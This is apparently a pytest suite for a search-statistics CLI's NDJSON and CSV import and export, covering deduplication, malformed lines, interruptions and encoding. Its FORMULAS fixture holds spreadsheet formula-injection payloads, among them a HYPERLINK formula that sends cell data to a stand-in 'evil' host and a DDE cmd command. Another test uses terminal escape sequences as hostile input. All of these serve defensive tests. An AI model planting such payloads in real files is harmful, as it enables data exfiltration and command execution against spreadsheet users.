"""``searchstats import`` and ``export``: every kind, idempotent by eventId, malformed lines named
by number, and an export that imports back to the same statistics, in NDJSON and CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import signal
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from typing import Any

import orjson
import pytest
from sqlalchemy import select
from sqlmodel import col

from app import cli_bulk, import_files
from app.cli import main
from app.domain.event_documents import FORMULA_STARTS
from app.domain.periods import Granularity, parse_zone, period_of_days
from app.domain.stats import Breakdown, Metric, Rate, StatsQuery
from app.errors import Unavailable
from app.services import bulk, record
from app.services.bulk import account_principal
from app.services.runtime import build_runtime
from app.services.stats import compute_stats
from app.settings import Settings
from app.storage import directory
from app.storage.database import open_database
from app.storage.models import Event

SHOP = "0123456789abcdef0123456789abcdef"
ITEM = "a8e4b4a6-2f6b-4b53-9c5e-1d6f0e1a2b3c"


def with_event_ids(docs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The documents that carry an eventId: imported twice, they are stored once."""
    return [doc for doc in docs if "eventId" in next(iter(doc.values()))]


def documents(count: int) -> list[dict[str, Any]]:
    """A mix of every kind: searches with clicks and feedback linked to them, bots, devices."""
    found: list[dict[str, Any]] = []
    for n in range(count):
        at = f"2025-03-{1 + n % 28:02d}T{n % 24:02d}:{n % 60:02d}:00+00:00"
        common = {"occurredAt": at, "sessionId": f"s{n % 50}", "userId": f"u{n % 30}"}
        if n % 9 != 8:
            common["eventId"] = f"e{n}"  # a few without: stored, but not deduplicated
        search_of = f"q{n - n % 5}"
        match n % 5:
            case 0:
                doc = {
                    "search": {
                        "query": f"term {n % 7}",
                        "resultCount": n % 4,
                        "queryId": search_of,
                        "sort": {"by": "score", "order": "desc"},
                        "appliedFilters": [{"filter": "a", "operator": "equals", "value": "b"}],
                    }
                }
            case 1:
                doc = {"click": {"documentId": f"d{n % 11}", "rank": n % 6, "queryId": search_of}}
            case 2:
                doc = {"feedback": {"documentId": f"d{n % 11}", "score": 1 if n % 3 else -1}}
            case 3:
                doc = {"visit": {"store": "shop", "url": f"/p/{n}", "device": "MOBILE"}}
            case _:
                doc = {"view": {"targetId": ITEM, "targetType": "item", "isBot": n % 2 == 0}}
        [(kind, fields)] = doc.items()
        found.append({kind: common | fields})
    return found


def write_ndjson(path: Path, docs: list[dict[str, Any]]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(doc) + b"\n" for doc in docs))
    return path


def use(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SEARCHSTATS_DATABASE_URL", url)
    monkeypatch.setenv("SEARCHSTATS_SECRET_KEY", "bulk-secret")


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def prepare(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(capsys, "account", "create", "default")[0] == 0
    assert cli(capsys, "engine", "create", "default", "--hashid", SHOP)[0] == 0


async def _stats(url: str) -> dict[str, Any]:
    runtime = build_runtime(Settings(database_url=url, secret_key="bulk-secret"))
    await runtime.start()
    try:
        principal = await account_principal(runtime.database, "default")
        query = StatsQuery(
            period=period_of_days(date(2025, 3, 1), date(2025, 3, 31), parse_zone("Etc/UTC")),
            granularity=Granularity.DAY,
            metrics=frozenset(Metric),
            rates=frozenset(Rate),
            breakdowns=((Breakdown.TOP_QUERIES, 10), (Breakdown.TOP_DOCUMENTS, 10)),
        )
        report = await compute_stats(runtime=runtime, principal=principal, query=query)
    finally:
        await runtime.stop()
    return {
        "counts": {m.value: [p.count for p in s.points] for m, s in report.series.items()},
        "rates": {r.value: s.overall for r, s in report.rates.items()},
        "breakdowns": {b.value: rows for b, rows in report.breakdowns.items()},
    }


def stats(url: str) -> dict[str, Any]:
    return asyncio.run(_stats(url))


def summary(err: str) -> str:
    return err.strip().splitlines()[-1]


def import_into_new_database(
    url: str, path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> str:
    """``path`` imported into the empty database at ``url``, migrated and prepared first;
    the import's summary line."""
    use(url, monkeypatch)
    assert cli(capsys, "migrate")[0] == 0
    prepare(capsys)
    code, _, err = cli(capsys, "import", str(path))
    assert code == 0, err
    return summary(err)


@pytest.mark.parametrize("batch_lines", [1000, bulk.BATCH_LINES], ids=["batches", "one-batch"])
def test_import_twice_stores_nothing_new(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    batch_lines: int,
) -> None:
    """In batches (some clicks in a later one than their search), and in one batch."""
    use(database_url, monkeypatch)
    monkeypatch.setattr(bulk, "BATCH_LINES", batch_lines)
    prepare(capsys)
    keyed = with_event_ids(documents(2600))
    source = write_ndjson(tmp_path / "events.ndjson", keyed)

    code, out, err = cli(capsys, "import", str(source))
    assert (code, out) == (0, "")
    assert summary(err).startswith(
        f"searchstats: import: read {len(keyed)}, stored {len(keyed)}, duplicates 0, rejected 0,"
    )
    first = stats(database_url)
    assert sum(first["counts"]["searches"]) == sum(1 for d in keyed if "search" in d)

    code, _, err = cli(capsys, "import", str(source))
    assert code == 0
    assert f"stored 0, duplicates {len(keyed)}, rejected 0" in summary(err)
    assert stats(database_url) == first


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("mode", ["stop", "skip"])
def test_malformed_lines_are_named_by_number(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    mode: str,
) -> None:
    use(database_url, monkeypatch)
    prepare(capsys)
    good = [orjson.dumps(doc).decode() for doc in documents(6)]
    lines = [
        good[0],
        "",  # blank lines are skipped, and still counted for the numbering
        '{"click": {"documentId": "d"}}',  # line 3: rank missing
        good[1],
        "not json",  # line 5
        '{"purchase": {"total": 3}}',  # line 6: no such kind
        '{"visit": {"store": "s", "colour": "red"}}',  # line 7: unknown field
        good[2],
    ]
    source = tmp_path / "mixed.ndjson"
    source.write_text("\n".join(lines) + "\n")

    code, _, err = cli(capsys, "import", str(source), "--on-error", mode)
    messages = err.strip().splitlines()
    if mode == "stop":
        assert code == 1
        assert messages[0] == "searchstats: line 3: rank is required"
        assert "read 2, stored 1, duplicates 0, rejected 1" in messages[-1]
        assert "stopped at line 3" in messages[-1]
        return
    assert code == 3  # lines were rejected: the import did not store the whole file
    assert messages[:4] == [
        "searchstats: line 3: rank is required",
        "searchstats: line 5: the line is not valid JSON",
        "searchstats: line 6: unknown event type 'purchase': expected one of view, search, "
        "visit, click, feedback",
        "searchstats: line 7: unknown fields for visit: colour",
    ]
    assert "read 7, stored 3, duplicates 0, rejected 4" in messages[-1]


def counted_engine_lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The hashids of the engines looked up in the database from now on, in order."""
    lookups: list[str] = []
    look_up = directory.engine_by_hashid

    async def counted(session: Any, hashid: str) -> Any:
        lookups.append(hashid)
        return await look_up(session, hashid)

    monkeypatch.setattr(directory, "engine_by_hashid", counted)
    return lookups


def test_an_import_that_skipped_lines_exits_3_and_looks_a_missing_engine_up_once(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """The audit's case: a file of another database's engines, imported with ``--on-error
    skip``, rejected every line and exited 0, so a script could not tell that nothing was
    imported; the missing engine was looked up again for every line. The import exits 3, with
    its summary, and looks the engine up once."""
    use(database_url, monkeypatch)
    prepare(capsys)
    lookups = counted_engine_lookups(monkeypatch)
    elsewhere = "f" * 32  # no such engine here
    docs = [{"visit": {"store": "s", "engine": elsewhere, "eventId": f"v{n}"}} for n in range(40)]
    source = write_ndjson(tmp_path / "elsewhere.ndjson", docs)

    code, out, err = cli(capsys, "import", str(source), "--on-error", "skip")

    assert (code, out) == (3, "")
    assert err.count(f"search engine {elsewhere} not found") == 40
    assert "read 40, stored 0, duplicates 0, rejected 40" in summary(err)
    assert lookups == [elsewhere]
    with pytest.raises(SystemExit):
        main(["import", "--help"])
    assert "3 when lines were rejected" in " ".join(capsys.readouterr().out.split())


def test_an_import_naming_a_new_engine_on_every_line_remembers_a_bounded_number(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """Each engine a line named was remembered for the whole import: a file naming a new one
    on every line kept them all. Past the bound they are forgotten, and looked up again."""
    use(database_url, monkeypatch)
    prepare(capsys)
    lookups = counted_engine_lookups(monkeypatch)
    monkeypatch.setattr(bulk, "ENGINES_REMEMBERED", 4)
    named = [f"{n:032x}" for n in range(10)] + [f"{0:032x}"]  # the first again, at the end
    docs = [{"visit": {"store": "s", "engine": hashid}} for hashid in named]
    source = write_ndjson(tmp_path / "engines.ndjson", docs)

    code, _, err = cli(capsys, "import", str(source), "--on-error", "skip")

    assert code == 3
    assert "read 11, stored 0, duplicates 0, rejected 11" in summary(err)
    assert lookups == named  # the first was forgotten, and looked up again


def test_what_a_rejected_line_says_reaches_the_terminal_without_its_control_characters(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """A field name of the file was written to the operator's terminal as it was: an escape
    sequence in it recoloured the terminal or cleared the screen."""
    use(database_url, monkeypatch)
    prepare(capsys)
    docs: list[dict[str, Any]] = [{"visit": {"store": "s", "\x1b[31mred": 1}}, {"vi\x1b[2Jsit": {}}]
    source = write_ndjson(tmp_path / "hostile.ndjson", docs)

    code, _, err = cli(capsys, "import", str(source), "--on-error", "skip")

    assert code == 3
    assert "\x1b" not in err
    assert "line 1: unknown fields for visit: \\x1b[31mred\n" in err
    code, _, err = cli(capsys, "import", str(source))  # stopped there: the same, said as an error
    assert code == 1
    assert "\x1b" not in err


def stored_event_ids(url: str) -> set[str]:
    async def fetch() -> set[str]:
        database = open_database(Settings(database_url=url, secret_key="bulk-secret"))
        try:
            async with database.sessions() as session:
                rows = await session.execute(select(col(Event.event_id)))
                return {str(event_id) for (event_id,) in rows}
        finally:
            await database.dispose()

    return asyncio.run(fetch())


LINE_LIMIT = 150_000  # SEARCHSTATS_MAX_BODY_BYTES: over csv's field limit of 131,072
UNREADABLE = {
    "csv-field-over-limit": (
        "csv",
        b"search," + b"a" * 140_000 + b",big\n",
        "a field is longer than 131072 characters, or a quote is never closed",
    ),
    "csv-invalid-utf8": ("csv", b"search,x\xff\xfey,bad\n", "the line is not valid UTF-8"),
    "csv-quote-never-closed": (
        "csv",
        b'search,"open,bad\n',
        "a quote is never closed: its field runs to the end of the file",
    ),
    "ndjson-invalid-utf8": (
        "ndjson",
        b'{"search": {"query": "x\xff\xfey", "eventId": "bad"}}\n',
        "the line is not valid UTF-8",
    ),
    "ndjson-line-over-limit": (
        "ndjson",
        b'{"search": {"query": "' + b"a" * 200_000 + b'", "eventId": "bad"}}\n',
        f"the line is longer than {LINE_LIMIT} bytes",
    ),
}


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("mode", ["stop", "skip"])
@pytest.mark.parametrize("case", list(UNREADABLE))
def test_a_line_that_cannot_be_read_is_reported_like_a_malformed_one(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    mode: str,
    case: str,
) -> None:
    """Over csv's field limit, over the line limit, invalid UTF-8, a quote never closed: the
    line is named; the batches already handed over are stored, and ``skip`` goes on."""
    use(database_url, monkeypatch)
    monkeypatch.setenv("SEARCHSTATS_MAX_BODY_BYTES", str(LINE_LIMIT))
    monkeypatch.setattr(bulk, "BATCH_LINES", 100)  # batches committing before the bad line
    prepare(capsys)
    fmt, bad, expected = UNREADABLE[case]
    before = [search_line(fmt, f"e{n}") for n in range(250)]
    after = (
        [] if case == "csv-quote-never-closed" else [search_line(fmt, f"f{n}") for n in range(10)]
    )
    header = b"type,query,eventId\n" if fmt == "csv" else b""
    source = tmp_path / f"events.{fmt}"
    source.write_bytes(header + b"".join(before) + bad + b"".join(after))
    bad_line = len(before) + (2 if fmt == "csv" else 1)

    code, out, err = cli(capsys, "import", str(source), "--on-error", mode)

    messages = err.strip().splitlines()
    assert "Traceback" not in err
    assert messages[:-1] == [f"searchstats: line {bad_line}: {expected}"]
    stored = {f"e{n}" for n in range(250)} | (
        {f"f{n}" for n in range(10)} if mode == "skip" and after else set()
    )
    assert stored_event_ids(database_url) == stored
    if mode == "stop":
        assert (code, out) == (1, "")
        assert "read 251, stored 250, duplicates 0, rejected 1" in messages[-1]
        assert f"stopped at line {bad_line}" in messages[-1]
    else:
        assert (code, out) == (3, "")
        assert f"stored {len(stored)}, duplicates 0, rejected 1" in messages[-1]


def search_line(fmt: str, event_id: str) -> bytes:
    if fmt == "csv":
        return f"search,q {event_id},{event_id}\n".encode()
    return orjson.dumps({"search": {"query": f"q {event_id}", "eventId": event_id}}) + b"\n"


@pytest.mark.parametrize("fmt", ["ndjson", "csv"])
def test_export_then_import_round_trips(
    database_url: str,
    empty_database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    fmt: str,
) -> None:
    use(database_url, monkeypatch)
    prepare(capsys)
    docs = documents(700)
    assert cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", docs)))[0] == 0
    exported = tmp_path / f"out.{fmt}"
    code, out, err = cli(
        capsys,
        "export",
        "--from",
        "2025-03-01",
        "--to",
        "2025-03-31",
        "--format",
        fmt,
        "--output",
        str(exported),
    )
    assert (code, out) == (0, "")
    assert summary(err).startswith(f"searchstats: export: wrote {len(docs)} events")
    original = stats(database_url)

    imported = import_into_new_database(empty_database_url, exported, monkeypatch, capsys)
    assert f"read {len(docs)}, stored {len(docs)}, duplicates 0, rejected 0" in imported
    assert stats(empty_database_url) == original
    assert original["rates"]["click_through_rate"]  # clicks linked to their searches
    # Imported twice (or again after a stop): each event once, those stored without an eventId
    # too, as the export gave them one.
    assert any("eventId" not in next(iter(doc.values())) for doc in docs)
    code, _, err = cli(capsys, "import", str(exported))
    assert f"read {len(docs)}, stored 0, duplicates {len(docs)}, rejected 0" in summary(err)
    assert stats(empty_database_url) == original
    again = tmp_path / f"again.{fmt}"
    cli(
        capsys,
        "export",
        "--from",
        "2025-03-01",
        "--to",
        "2025-03-31",
        "--format",
        fmt,
        "--output",
        str(again),
    )
    # The same events, each with the same eventId; in the target's stored order, where events
    # with an eventId are inserted in the order of their ids (app/storage/batch_plan.py).
    assert sorted(again.read_text().splitlines()) == sorted(exported.read_text().splitlines())


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_to_standard_output_in_stored_order(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    use(database_url, monkeypatch)
    prepare(capsys)
    docs = documents(30)
    cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", docs)))
    code, out, _ = cli(capsys, "export", "--from", "2025-03-02", "--to", "2025-03-02T12:00:00")
    assert code == 0
    lines = [orjson.loads(line) for line in out.splitlines()]
    expected = [
        d for d in docs if "2025-03-02T00" <= next(iter(d.values()))["occurredAt"] < "2025-03-02T12"
    ]
    assert [next(iter(d.values()))["occurredAt"] for d in lines] == [
        next(iter(d.values()))["occurredAt"] for d in expected
    ]
    assert all(next(iter(d.values()))["engine"] == SHOP for d in lines)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_to_the_last_day_there_is_writes_every_event(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """``--to 9999-12-31``, "everything": the day after it was an OverflowError's traceback."""
    use(database_url, monkeypatch)
    prepare(capsys)
    docs = documents(30)
    cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", docs)))

    code, out, err = cli(capsys, "export", "--from", "0001-01-01", "--to", "9999-12-31")

    assert code == 0, err
    assert len(out.splitlines()) == len(docs)


@pytest.mark.parametrize("fmt", ["ndjson", "csv"])
def test_an_empty_session_or_user_id_is_imported_as_none(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    fmt: str,
) -> None:
    # As the doors store it; an export writes none, and CSV could not tell "" from absent.
    use(database_url, monkeypatch)
    prepare(capsys)
    source = tmp_path / f"in.{fmt}"
    if fmt == "csv":
        source.write_text("type,query,sessionId,userId,eventId\nsearch,q,,,e1\n")
    else:
        doc = {"search": {"query": "q", "sessionId": "", "userId": "", "eventId": "e1"}}
        write_ndjson(source, [doc])
    code, _, err = cli(capsys, "import", str(source))
    assert code == 0, err
    assert stored_sessions_and_users(database_url) == [(None, None)]


def stored_sessions_and_users(url: str) -> list[tuple[object, object]]:
    async def fetch() -> list[tuple[object, object]]:
        database = open_database(Settings(database_url=url, secret_key="bulk-secret"))
        try:
            async with database.sessions() as session:
                rows = await session.execute(select(col(Event.session_id), col(Event.user_id)))
                return [(session_id, user_id) for session_id, user_id in rows]
        finally:
            await database.dispose()

    return asyncio.run(fetch())


# Client text a spreadsheet would run, and text that already looks escaped.
FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1-cmd",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "a\rb",
    "'=1",
    "''+x",
    "'x",
    "'",
]


def test_a_csv_export_runs_no_formula_and_imports_back_every_string(
    database_url: str,
    empty_database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    use(database_url, monkeypatch)
    prepare(capsys)
    docs = [
        {
            "search": {
                "query": text,
                "sessionId": text,
                "userId": text,
                "configuration": text,
                "eventId": text,
                "occurredAt": f"2025-03-01T10:{n:02d}:00+00:00",
            }
        }
        for n, text in enumerate(FORMULAS)
    ]
    assert cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", docs)))[0] == 0
    period = ("--from", "2025-03-01", "--to", "2025-03-01")
    exported = tmp_path / "out.csv"
    assert cli(capsys, "export", *period, "--format", "csv", "--output", str(exported))[0] == 0
    with exported.open(newline="") as written:
        cells = [cell for row in csv.reader(written) for cell in row]
    assert not [cell for cell in cells if cell[:1] and cell[0] in FORMULA_STARTS]
    code, before, _ = cli(capsys, "export", *period)
    assert code == 0

    imported = import_into_new_database(empty_database_url, exported, monkeypatch, capsys)
    assert f"read {len(docs)}, stored {len(docs)}, duplicates 0, rejected 0" in imported
    # Exported again as NDJSON: the same events, every string exactly as it was recorded.
    code, after, _ = cli(capsys, "export", *period)
    assert sorted(after.splitlines()) == sorted(before.splitlines())
    texts = {orjson.loads(line)["search"]["query"] for line in after.splitlines()}
    assert texts == set(FORMULAS)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_writes_csv_for_a_csv_file_and_import_reads_one_saved_by_a_spreadsheet(
    database_url: str,
    empty_database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    use(database_url, monkeypatch)
    prepare(capsys)
    docs = documents(40)
    assert cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", docs)))[0] == 0
    exported = tmp_path / "out.csv"  # no --format: the extension says CSV, as for import
    period = ("--from", "2025-03-01", "--to", "2025-03-31")
    assert cli(capsys, "export", *period, "--output", str(exported))[0] == 0
    assert exported.read_text().startswith("type,")
    # Saved again by a spreadsheet as "CSV UTF-8": a byte order mark before the first column.
    saved = tmp_path / "saved.csv"
    saved.write_bytes(b"\xef\xbb\xbf" + exported.read_bytes())

    imported = import_into_new_database(empty_database_url, saved, monkeypatch, capsys)
    assert f"read {len(docs)}, stored {len(docs)}, duplicates 0, rejected 0" in imported


@pytest.mark.parametrize("backend", ["sqlite"])
def test_an_interrupted_import_commits_the_lines_read_sums_up_and_resumes(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """Ctrl-C (or a plain kill) was a traceback, the batches being committed cancelled."""
    use(database_url, monkeypatch)
    prepare(capsys)
    docs = with_event_ids(documents(40))[:30]
    source = write_ndjson(tmp_path / "in.ndjson", docs)
    reader = import_files.ndjson_documents

    def interrupted_after_line_12(*args: Any, **kwargs: Any) -> Any:
        for line, document in reader(*args, **kwargs):
            yield line, document
            if line == 12:
                signal.raise_signal(signal.SIGINT)

    monkeypatch.setattr(cli_bulk, "ndjson_documents", interrupted_after_line_12)
    code, _, err = cli(capsys, "import", str(source), "--account", "default")

    assert code == 130, err
    assert "interrupted after line 12" in err
    assert "read 12, stored 12, duplicates 0, rejected 0" in summary(err)
    assert len(stored_sessions_and_users(database_url)) == 12
    monkeypatch.setattr(cli_bulk, "ndjson_documents", reader)
    code, _, err = cli(capsys, "import", str(source))
    assert code == 0, err
    assert "read 30, stored 18, duplicates 12, rejected 0" in summary(err)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_an_interrupted_export_stops_writing_and_says_so(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    use(database_url, monkeypatch)
    prepare(capsys)
    cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", documents(10))))

    def interrupted(_out: Any) -> Any:
        return lambda _document: signal.raise_signal(signal.SIGINT)

    monkeypatch.setattr(cli_bulk, "_ndjson_writer", interrupted)
    code, out, err = cli(capsys, "export", "--from", "2025-03-01", "--to", "2025-03-31")

    assert (code, out) == (130, "")
    first, last = err.splitlines()
    assert first.startswith("searchstats: export: interrupted: the events before it are written")
    assert last.startswith("searchstats: export: wrote 1 events in ")


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("day", ["20250302", "2025-W09-7"])
def test_a_date_in_another_iso_spelling_is_a_whole_day(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    day: str,
) -> None:
    """``--to 20250302`` was read as that day's first instant: the day was left out."""
    use(database_url, monkeypatch)
    prepare(capsys)
    cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", documents(60))))
    _, whole_day, _ = cli(capsys, "export", "--from", "2025-03-02", "--to", "2025-03-02")
    assert whole_day

    code, out, err = cli(capsys, "export", "--from", day, "--to", day)

    assert code == 0, err
    assert out == whole_day


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_to_standard_output_is_utf8_whatever_the_locale(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """Under a locale whose encoding is not UTF-8, the first query outside it was a traceback."""
    use(database_url, monkeypatch)
    prepare(capsys)
    doc = {"search": {"query": "日本語 café", "eventId": "e1", "occurredAt": "2025-03-02T10:00Z"}}
    cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", [doc])))
    written = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(written, encoding="ascii"))

    code = main(["export", "--from", "2025-03-02", "--to", "2025-03-02"])

    sys.stdout.flush()
    assert code == 0
    assert orjson.loads(written.getvalue())["search"]["query"] == "日本語 café"


def test_an_export_file_is_utf8_whatever_the_locale(tmp_path: Path) -> None:
    path = tmp_path / "out.ndjson"
    program = "import sys\nfrom app.cli_bulk import _output\nwith _output(sys.argv[1]) as out:\n"
    program += f"    out.write({'日本語 café'!a})\n"  # the program's text is ASCII too
    ascii_locale = os.environ | {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}

    subprocess.run([sys.executable, "-c", program, str(path)], env=ascii_locale, check=True)

    assert path.read_bytes() == "日本語 café".encode()


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_to_dash_writes_standard_output(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """``--output -`` wrote a file named "-" in the working directory, as import reads ``-``."""
    use(database_url, monkeypatch)
    prepare(capsys)
    cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", documents(10))))
    monkeypatch.chdir(tmp_path)
    period = ("--from", "2025-03-01", "--to", "2025-03-31")
    _, default, _ = cli(capsys, "export", *period)

    code, out, err = cli(capsys, "export", *period, "--output", "-")

    assert code == 0, err
    assert out == default
    assert len(out.splitlines()) == 10
    assert not (tmp_path / "-").exists()


@pytest.mark.parametrize("backend", ["sqlite"])
def test_an_import_that_fails_part_way_says_how_far_it_went(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """The database down in the middle: only the error was said, not what was stored."""
    use(database_url, monkeypatch)
    prepare(capsys)
    docs = with_event_ids(documents(40))[:30]
    store = record.store_new_events
    calls = 0

    async def down_after_one_batch(**kwargs: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls > 1:
            raise Unavailable("the database is unavailable")
        return await store(**kwargs)

    monkeypatch.setattr(bulk, "store_new_events", down_after_one_batch)
    monkeypatch.setattr(bulk, "RETRIES", 1)
    monkeypatch.setattr(bulk, "IN_FLIGHT", 1)
    monkeypatch.setattr(bulk, "BATCH_LINES", 10)

    code, _, err = cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", docs)))

    assert code == 1
    *_, progress, error = err.splitlines()
    assert progress.startswith("searchstats: import: read ")
    assert "stored 10, duplicates 0, rejected 0" in progress
    assert error == "searchstats: error: the database is unavailable"


@pytest.mark.parametrize("backend", ["sqlite"])
def test_import_and_export_run_outside_the_main_thread(
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """Where no signal can be handled (a host's worker thread), they run all the same."""
    use(database_url, monkeypatch)
    prepare(capsys)
    source = str(write_ndjson(tmp_path / "in.ndjson", documents(10)))
    period = ("--from", "2025-03-01", "--to", "2025-03-31", "--output", str(tmp_path / "o.ndjson"))
    with ThreadPoolExecutor(1) as thread:
        assert thread.submit(main, ["import", source]).result() == 0
        assert thread.submit(main, ["export", *period]).result() == 0
    assert len((tmp_path / "o.ndjson").read_text().splitlines()) == 10
